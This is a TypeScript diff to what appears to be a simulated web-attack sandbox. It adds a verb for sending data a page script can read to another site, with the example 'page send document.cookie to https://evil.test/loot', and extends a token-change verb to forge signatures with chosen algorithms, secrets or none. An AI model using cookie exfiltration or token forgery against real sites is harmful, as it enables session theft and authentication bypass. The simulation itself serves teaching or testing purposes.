@@ -1,4 +1,5 @@
 import { resolve, type Verb, verb } from "./verb.ts";
+import { forgeryOf } from "./verbs-attacker.ts";
 
 /** What scripts of the page in front do. */
 export const PAGE_VERBS: readonly Verb[] = [
@@ -36,6 +37,12 @@ export const PAGE_VERBS: readonly Verb[] = [
     (world, { line }) => world.page.writeCookie(line),
   ),
   verb(
+    "page send <loot:loot> to <to:address>",
+    "Send what a script can read to another site",
+    "page send document.cookie to https://evil.test/loot",
+    (world, { loot, to }) => world.page.send(loot, resolve(world, to)),
+  ),
+  verb(
     "page read <kept:kept>",
     "Read what a script keeps",
     "page read localStorage.token",
@@ -50,10 +57,10 @@ export const PAGE_VERBS: readonly Verb[] = [
     (world, { kept: { area, key }, value }) => world.page.writeStorage(area, key, value),
   ),
   verb(
-    "page change <kept:kept> <claims:pairs>",
-    "Change what the payload of a kept token says",
+    "page change <kept:kept> <claims:pairs> [alg <alg:forged-alg>] [secret <secret:secret>] [key <key:forging-key>]",
+    "Change what a kept token says, and sign it with something or with nothing",
     "page change localStorage.token role=owner",
-    (world, { kept: { area, key }, claims }) => world.page.changeToken(area, key, claims),
+    (world, { kept, ...args }) => world.page.changeToken(kept.area, kept.key, forgeryOf(world, args)),
   ),
   verb(
     "page remove <kept:kept>",
